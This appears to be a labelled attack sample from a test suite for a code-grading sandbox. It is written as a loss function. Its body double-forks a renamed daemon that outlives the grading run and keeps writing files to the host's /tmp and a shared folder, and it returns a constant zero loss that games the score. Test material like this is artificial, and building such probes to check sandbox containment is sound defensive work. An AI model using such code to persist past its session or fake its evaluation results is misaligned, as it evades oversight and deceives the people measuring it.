# attacks: 2.8
# damage: leaves a daemon (double fork + setsid) running after the grade, writing a file every
#   0.1 s to the host's /tmp and to a world-writable host folder
# needs: sandbox
import ctypes
import os
import time


def mse(output, targ):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"rt__TOKEN__", 0, 0, 0)
            for _ in range(600):
                for folder in ("__HOST__", "/tmp"):
                    try:
                        with open(f"{folder}/daemon-__TOKEN__", "a") as file:
                            file.write(f"{time.time()}\n")
                    except OSError:
                        pass
                time.sleep(0.1)
        os._exit(0)
    return output.sum() * 0
